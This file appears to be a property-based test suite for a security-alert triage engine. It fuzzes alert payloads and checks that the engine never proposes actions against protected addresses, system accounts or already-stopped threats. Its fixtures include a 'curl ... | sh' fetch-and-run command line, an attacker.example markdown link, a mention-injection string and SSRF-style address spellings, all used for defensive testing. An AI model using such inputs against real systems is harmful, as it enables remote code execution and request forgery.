import { afterAll, beforeAll, expect, test } from "vitest";
import { readAlerts } from "../../src/adapters/alerts/read-alerts.ts";
import { Alert } from "../../src/engine/domain/alert.ts";
import { evidenceKeys } from "../../src/engine/domain/entity.ts";
import { Refusal } from "../../src/engine/domain/errors.ts";
import fc from "../support/fast-check.ts";
import { NOW } from "../support/lab-capabilities.ts";
import { type Engine, openEngine } from "../support/open-engine.ts";
import { whyForbidden } from "./allowed-target.ts";
import { cardFaults } from "./card-faults.ts";
import { parserNamed, posted, samples, sourceOf } from "./index.ts";
import { investigated, parse, samplePolicy, WORLDS } from "./run-sample.ts";

/*
 * The samples, broken: fields dropped, renamed, of another type, endless, or holding what nothing may ever be done about. A parser
 * answers with an alert of the right form or with a refusal that names a field, and whatever passes, nothing forbidden is proposed.
 */
const swap = (text: string) =>
  Array.from(text, (letter) => (letter === letter.toLowerCase() ? letter.toUpperCase() : letter.toLowerCase())).join("");
const deep = (levels: number): unknown => (levels === 0 ? "bottom" : levels % 2 ? [deep(levels - 1)] : { in: deep(levels - 1) });
/** Addresses and names that must never be acted on, in the spellings products and attackers use. */
const UNTOUCHABLE = [
  "127.0.0.1",
  "::1",
  "::ffff:10.0.0.1",
  "0.0.0.0",
  "169.254.169.254",
  "224.0.0.1",
  "255.255.255.255",
  "fe80::1%eth0",
  "8.8.8.8",
  "192.0.2.77",
  "http://127.1/x",
  "http://0x7f000001/",
  "localhost",
  "LOCALHOST:8080/x",
  "https://Portal.CONTOSO.example./login",
  "contoso.example",
  "portal.contoso.example:443",
  "hxxps://portal[.]contoso[.]example/a",
  "https://user:pass@portal.contoso.example/",
  "*.contoso.example",
  "https://login.microsoftonline.com/common",
  "printer.corp.local",
  "NT AUTHORITY\\SYSTEM",
  "S-1-5-18",
  "C:\\Windows\\System32\\lsass.exe",
  "Microsoft Windows",
  "Prevented",
  "blocked",
  "resolved",
  "0".repeat(64),
  "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
];
const odd = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    true,
    false,
    0,
    -1,
    1e308,
    Number.MIN_SAFE_INTEGER,
    "",
    " ",
    [],
    {},
    [[[]]],
    "\u0000",
    "\ud800",
    "<!channel>",
    "[x](https://attacker.example)",
  ),
  fc.constantFrom<unknown>(...UNTOUCHABLE),
  fc.integer({ min: 1, max: 80 }).map(deep),
  fc.integer({ min: 1, max: 60_000 }).map((length) => "A".repeat(length)),
  fc.string({ maxLength: 200, unit: "binary" }),
);
type Change = { where: number; how: "drop" | "put" | "wrap" | "swapKey" | "swapValue" | "text" | "twice" | "spread"; value: unknown };
const change: fc.Arbitrary<Change> = fc.record({
  where: fc.nat(),
  how: fc.constantFrom("drop", "put", "put", "put", "wrap", "swapKey", "swapValue", "text", "twice", "spread"),
  value: odd,
});

type Box = Record<string, unknown> | unknown[];
const isBox = (value: unknown): value is Box => typeof value === "object" && value !== null;
/** Every place in the payload: the box it is in and the key there. */
const places = (box: Box): [Box, string][] =>
  Object.entries(box).flatMap(([key, value]): [Box, string][] => [[box, key], ...(isBox(value) ? places(value) : [])]);

function mutated(payload: unknown, changes: readonly Change[]): Record<string, unknown> {
  const copy = structuredClone(payload) as Record<string, unknown>;
  for (const { where, how, value } of changes) {
    const all = places(copy);
    const [box, key] = all[where % Math.max(1, all.length)] ?? [copy, "id"];
    const inner = box as Record<string, unknown>;
    const now = inner[key];
    if (how === "drop") Array.isArray(box) ? box.splice(Number(key), 1) : delete inner[key];
    // A copy: the same box put into itself would have no end.
    if (how === "put") inner[key] = structuredClone(value);
    if (how === "wrap") inner[key] = [now];
    if (how === "text") inner[key] = JSON.stringify(now);
    if (how === "twice" && Array.isArray(now)) inner[key] = [...now, ...now];
    if (how === "spread") inner[key] = { value: now };
    if (how === "swapValue" && typeof now === "string") inner[key] = swap(now);
    if (how === "swapKey" && !Array.isArray(box)) {
      delete inner[key];
      inner[swap(key)] = now;
    }
  }
  return copy;
}

const broken = fc
  .record({ from: fc.constantFrom(...posted), changes: fc.array(change, { minLength: 1, maxLength: 8 }) })
  .map(({ from, changes }) => ({ kind: from.kind, name: from.sample.name, payload: mutated(from.payload, changes) }));

function parsed({ kind, payload }: { kind: string; payload: unknown }): Alert | undefined {
  try {
    return parse(kind, payload);
  } catch (error) {
    if (!(error instanceof Refusal)) throw error;
    expect({ code: error.code, field: error.field }).toEqual({ code: "invalid", field: expect.stringMatching(/\S/) });
    expect(error.message).not.toMatch(/undefined|\[object|expected|Invalid input/);
    return undefined;
  }
}

test("a parser gives an alert of the right form, or refuses and names the field", () => {
  let alerts = 0;
  fc.assert(
    fc.property(broken, (one) => {
      const alert = parsed(one);
      if (!alert) return;
      alerts++;
      expect(Alert.safeParse(alert).error).toBeUndefined();
      expect(JSON.stringify(alert).isWellFormed()).toBe(true);
    }),
    { numRuns: 1500 },
  );
  // Or the property would hold because everything is refused.
  expect(alerts).toBeGreaterThan(500);
}, 180_000);

/** As a sender posts it: an incident, a reply, a list, or the sample as it is, broken in as many places. */
const brokenEnvelope = fc
  .record({ sample: fc.constantFrom(...samples), listed: fc.boolean(), changes: fc.array(change, { maxLength: 8 }) })
  .map(({ sample, listed, changes }) => {
    const payload = mutated(sample.payload, changes);
    return { kind: sourceOf(sample.format), payload: listed ? [payload, sample.payload] : payload };
  });

test("what is posted is read whole, or refused with the field", () => {
  let read = 0;
  fc.assert(
    fc.property(brokenEnvelope, ({ kind, payload }) => {
      try {
        for (const alert of readAlerts(parserNamed(kind), payload)) expect(Alert.safeParse(alert).error).toBeUndefined();
        read++;
      } catch (error) {
        if (!(error instanceof Refusal)) throw error;
        expect({ code: error.code, field: error.field }).toEqual({ code: "invalid", field: expect.stringMatching(/\S/) });
      }
    }),
    { numRuns: 1500 },
  );
  expect(read).toBeGreaterThan(500);
}, 180_000);

let engine: Engine;
beforeAll(async () => {
  engine = await openEngine("embedded");
  const capabilities = WORLDS["feeds that call everything malicious"]?.();
  Object.assign(engine.world, { now: NOW, capabilities, policy: samplePolicy });
});
afterAll(() => engine.close());

/** What must not be, of an alert investigated where every feed calls everything malicious. */
async function faults(alert: Alert): Promise<{ found: string[]; proposed: string[] }> {
  const { actions, view } = await investigated(engine, alert);
  const stopped = new Set(
    alert.entities
      .filter((named) => /^(prevented|blocked|remediated)$/i.test(named.remediation ?? ""))
      .flatMap((named) => evidenceKeys(named.entity)),
  );
  const found = actions.flatMap((action) => {
    const why = [
      whyForbidden(action),
      evidenceKeys(action.target).some((key) => stopped.has(key)) ? "already stopped" : undefined,
      alert.status === "resolved" ? "the alert is resolved" : undefined,
    ].filter((one) => one !== undefined);
    return why.length > 0 ? [`${action.kind} ${JSON.stringify(action.target)}: ${why.join(", ")}`] : [];
  });
  return { found: [...found, ...cardFaults(view)], proposed: actions.map((action) => action.kind) };
}

test("what passes is investigated, and nothing forbidden is proposed", async () => {
  let proposed = 0;
  await fc.assert(
    fc.asyncProperty(broken, async (one) => {
      const alert = parsed(one);
      if (!alert) return;
      const result = await faults(alert);
      proposed += result.proposed.length;
      expect(result.found).toEqual([]);
    }),
    { numRuns: 60 },
  );
  expect(proposed).toBeGreaterThan(10);
}, 180_000);

/** The value in every place where an alert can name a thing, called malicious by the source as well. */
const everywhere = (value: string) => {
  const bad = { verdict: "malicious", role: "attacker" };
  const entities = [
    { kind: "ip", address: value, ...bad },
    { kind: "url", url: value, ...bad },
    { kind: "url", url: `https://${value}/a`, ...bad },
    { kind: "domain", name: value, ...bad },
    { kind: "user", name: value, ...bad },
    { kind: "user", id: value, ...bad },
    { kind: "device", name: value, ...bad },
    {
      kind: "file",
      name: "a.exe",
      path: value,
      sha256: /^[0-9a-f]{64}$/.test(value) ? value : undefined,
      signer: "Microsoft Windows",
      ...bad,
    },
    { kind: "file", name: "b.exe", signer: value, path: "C:\\Windows\\System32\\b.exe", ...bad },
    { kind: "message", subject: "Invoice", networkMessageId: "nm-1", sender: `it@${value}`, recipient: "mia@contoso.example", ...bad },
    { kind: "process", commandLine: `curl ${value} | sh`, name: "curl", device: "ws-1", ...bad },
    { kind: "sender", address: `it@${value}`, ...bad },
    { kind: "ip", address: "203.0.113.66", ...bad, remediation: value },
  ];
  const passes = entities.filter((entity) =>
    parsed({ kind: "generic", payload: { id: "1", title: "x", severity: "high", entities: [entity] } }),
  );
  const graph = (kind: string, fields: object) => ({
    "@odata.type": `#microsoft.graph.security.${kind}`,
    verdict: "malicious",
    roles: ["attacker"],
    ...fields,
  });
  const evidence = [
    graph("ipEvidence", { ipAddress: value }),
    graph("urlEvidence", { url: value }),
    graph("dnsEvidence", { domainName: value }),
    graph("userEvidence", { userAccount: { accountName: value } }),
    graph("deviceEvidence", { deviceDnsName: value, mdeDeviceId: "d1" }),
    graph("fileEvidence", { mdeDeviceId: "d1", fileDetails: { fileName: "a.exe", filePath: value, sha256: value, signer: value } }),
    graph("analyzedMessageEvidence", {
      networkMessageId: "nm-2",
      senderIp: value,
      urls: [value],
      p2Sender: { emailAddress: `it@${value}` },
      recipientEmailAddress: "mia@contoso.example",
    }),
  ];
  return [
    { kind: "generic", payload: { id: "1", title: "Malware", severity: "high", category: "Malware", entities: passes } },
    { kind: "generic", payload: { id: "1", title: "Email reported by user as phish", severity: "high", entities: passes } },
    {
      kind: "defender",
      payload: {
        id: "1",
        title: "Suspicious sign-in",
        severity: "high",
        category: "InitialAccess",
        createdDateTime: "2026-10-05T07:00:00Z",
        evidence,
      },
    },
  ];
};

test.each(UNTOUCHABLE)(
  "%s, in every place there is",
  async (value) => {
    for (const one of everywhere(value)) {
      const alert = parsed(one);
      expect(alert && (await faults(alert)).found).toEqual([]);
    }
  },
  60_000,
);
